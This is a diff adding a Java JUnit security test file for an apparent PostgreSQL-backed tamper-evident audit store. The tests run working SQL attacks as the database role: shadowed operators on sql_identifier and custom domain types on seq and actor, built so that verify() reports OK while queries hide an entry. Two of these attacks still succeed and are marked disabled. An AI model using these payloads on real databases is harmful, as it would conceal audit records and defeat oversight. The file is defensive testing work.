@@ -1,0 +1,170 @@
+package dev.secureyeoman.audit;
+
+import static org.junit.jupiter.api.Assertions.assertEquals;
+import static org.junit.jupiter.api.Assertions.assertFalse;
+import static org.junit.jupiter.api.Assertions.assertThrows;
+import static org.junit.jupiter.api.Assertions.assertTrue;
+
+import dev.secureyeoman.core.SecretBytes;
+import dev.secureyeoman.testkit.PostgresDatabase;
+import dev.secureyeoman.testkit.PostgresExtension;
+import dev.secureyeoman.testkit.PostgresServer;
+import java.io.StringWriter;
+import java.sql.Connection;
+import java.sql.DriverManager;
+import java.sql.SQLException;
+import java.sql.Statement;
+import java.util.ArrayList;
+import java.util.List;
+import java.util.Optional;
+import org.junit.jupiter.api.Disabled;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.condition.EnabledIf;
+import org.junit.jupiter.api.extension.ExtendWith;
+import org.postgresql.ds.PGSimpleDataSource;
+
+/**
+ * attack18f: an outside attacker holding the gateway nodes' own PostgreSQL role (it owns the audit tables and may create
+ * objects in the store's schema) tries to make {@code verify()} say OK while {@code query}/{@code search}/{@code
+ * exportJsonl} hide, add or alter an entry, to hide the fail-closed record, or to leave changed session settings on the
+ * host's pooled connection. Every test plays the attacker with plain SQL as that role; a test of an attack that works
+ * asserts the secure behaviour and is {@code @Disabled} until the product is fixed.
+ */
+@ExtendWith(PostgresExtension.class)
+@EnabledIf("dev.secureyeoman.testkit.PostgresServer#shouldRun")
+class Attack18fTest {
+  private static final String ROLE = "node18f";
+
+  /** The nodes' role: it owns what it creates and may create objects in {@code public}. */
+  private static PGSimpleDataSource nodeRole(PostgresDatabase db) throws SQLException {
+    try (Connection c = DriverManager.getConnection(db.jdbcUrl(), db.user(), db.password());
+        Statement s = c.createStatement()) {
+      s.execute("DO $$ BEGIN IF NOT EXISTS (SELECT 1 FROM pg_roles WHERE rolname = '" + ROLE + "') THEN "
+          + "CREATE ROLE " + ROLE + " LOGIN; END IF; END $$");
+      s.execute("GRANT CREATE, USAGE ON SCHEMA public TO " + ROLE);
+    }
+    PGSimpleDataSource ds = new PGSimpleDataSource();
+    ds.setUrl(db.jdbcUrl());
+    ds.setUser(ROLE);
+    return ds;
+  }
+
+  private static SecretBytes key() {
+    byte[] k = new byte[32];
+    for (int i = 0; i < k.length; i++) {
+      k[i] = (byte) (i * 7 + 1);
+    }
+    return SecretBytes.copyOf(k);
+  }
+
+  /** Runs SQL as the nodes' role (the attacker holds its credentials). */
+  private static void asNode(PGSimpleDataSource ds, String... sql) throws SQLException {
+    try (Connection c = ds.getConnection(); Statement s = c.createStatement()) {
+      for (String q : sql) {
+        s.execute(q);
+      }
+    }
+  }
+
+  /** Seven entries; mallory's is seq 4. */
+  private static void seven(AuditStore store) throws AuditException {
+    for (int i = 1; i <= 7; i++) {
+      String actor = i == 4 ? "mallory" : "alice";
+      store.append(AuditEvent.builder("admin.action").actor(actor).message("step " + i).build());
+    }
+  }
+
+  private static List<Long> seqs(List<AuditEntry> entries) {
+    List<Long> out = new ArrayList<>();
+    for (AuditEntry e : entries) {
+      out.add(e.seq());
+    }
+    return out;
+  }
+
+  private static List<Long> all() {
+    return List.of(1L, 2L, 3L, 4L, 5L, 6L, 7L);
+  }
+
+  // ---------------------------------------------------------------------------------------------------------------
+  // A. The column check reads information_schema.columns with "table_name = 'audit_log'": an unknown literal against
+  // the domain information_schema.sql_identifier. An operator =(sql_identifier, sql_identifier) in the store's schema
+  // is an exact match (pg_catalog has none for the domain), so the check can be pointed at a pristine copy of the
+  // table's shape while audit_log's seq is a domain with attack18e's better-matching ">".
+  // ---------------------------------------------------------------------------------------------------------------
+
+  @Test
+  @Disabled("attack18f: works — =(sql_identifier, sql_identifier) in the store's schema blinds the column check; "
+      + "attack18e's domain on seq hides seq 4 from query while verify says OK")
+  void identifierOperatorBlindsColumnCheck_domainOnSeq_verifyOkWhileQueryHidesAnEntry(PostgresDatabase db)
+      throws Exception {
+    PGSimpleDataSource ds = nodeRole(db);
+    try (AuditStore store = PostgresAuditStore.builder(ds).macKey(key()).open()) {
+      seven(store);
+      assertEquals(all(), seqs(store.query(AuditQuery.builder().build())));
+      blindColumnCheck(ds);
+      asNode(ds,
+          "CREATE DOMAIN public.dseq AS bigint",
+          "ALTER TABLE public.audit_log ALTER COLUMN seq TYPE public.dseq",
+          "CREATE FUNCTION public.dseq_gt(public.dseq, bigint) RETURNS boolean LANGUAGE sql IMMUTABLE "
+              + "AS $$ SELECT $1::bigint > $2 AND $1::bigint <> 4 $$",
+          "CREATE OPERATOR public.> (LEFTARG = public.dseq, RIGHTARG = bigint, FUNCTION = public.dseq_gt)");
+
+      List<Long> shown = seqs(store.query(AuditQuery.builder().build()));
+      VerificationResult r = store.verify();
+      // the secure outcome: either every entry is shown, or verification fails (and is recorded)
+      assertTrue(shown.equals(all()) || !r.valid(),
+          "verify " + r.summary() + " while query returned " + shown);
+      assertTrue(shown.equals(all()) || store.tamperingDetected().isPresent());
+    }
+  }
+
+  /** The same blind with a fresh node / the read-only reader (CLI {@code audit verify|search --config}). */
+  @Test
+  @Disabled("attack18f: works — the read-only reader (CLI audit verify/search) also says OK while its query hides seq 4")
+  void identifierOperatorBlindsColumnCheck_readOnlyReaderToo(PostgresDatabase db) throws Exception {
+    PGSimpleDataSource ds = nodeRole(db);
+    try (AuditStore store = PostgresAuditStore.builder(ds).macKey(key()).open()) {
+      seven(store);
+    }
+    blindColumnCheck(ds);
+    asNode(ds,
+        "CREATE DOMAIN public.dactor AS text",
+        "ALTER TABLE public.audit_log ALTER COLUMN actor TYPE public.dactor",
+        "CREATE FUNCTION public.dactor_eq(public.dactor, text) RETURNS boolean LANGUAGE sql IMMUTABLE "
+            + "AS $$ SELECT $1::text = $2 AND $1::text <> 'mallory' $$",
+        "CREATE OPERATOR public.= (LEFTARG = public.dactor, RIGHTARG = text, FUNCTION = public.dactor_eq)");
+    try (AuditReader r = PostgresAuditStore.builder(ds).macKey(key()).openReadOnly()) {
+      List<AuditEntry> mallory = r.query(AuditQuery.builder().actor("mallory").build());
+      VerificationResult v = r.verify();
+      assertTrue(mallory.size() == 1 || !v.valid(),
+          "verify " + v.summary() + " while the actor filter 'mallory' returned " + seqs(mallory));
+    }
+  }
+
+  /** Held part of A: without the blind, the same domain is refused (attack18e's fix), so the blind is what matters. */
+  @Test
+  void domainOnSeq_withoutTheBlind_refused(PostgresDatabase db) throws Exception {
+    PGSimpleDataSource ds = nodeRole(db);
+    try (AuditStore store = PostgresAuditStore.builder(ds).macKey(key()).open()) {
+      seven(store);
+      asNode(ds,
+          "CREATE DOMAIN public.dseq AS bigint",
+          "ALTER TABLE public.audit_log ALTER COLUMN seq TYPE public.dseq");
+      VerificationResult r = store.verify();
+      assertFalse(r.valid());
+      assertEquals(Optional.of(VerificationResult.Problem.STORAGE_TYPE_ALTERED), r.problem());
+    }
+  }
+
+  private static void blindColumnCheck(PGSimpleDataSource ds) throws SQLException {
+    asNode(ds,
+        // a pristine copy of the table's shape for the check to read instead
+        "CREATE TABLE public.audit_log_shape (LIKE public.audit_log)",
+        "CREATE FUNCTION public.ident_eq(information_schema.sql_identifier, information_schema.sql_identifier) "
+            + "RETURNS boolean LANGUAGE sql STABLE AS $$ SELECT CASE WHEN $2::text = 'audit_log' "
+            + "THEN $1::text = 'audit_log_shape' ELSE $1::text = $2::text END $$",
+        "CREATE OPERATOR public.= (LEFTARG = information_schema.sql_identifier, "
+            + "RIGHTARG = information_schema.sql_identifier, FUNCTION = public.ident_eq)");
+  }
+}
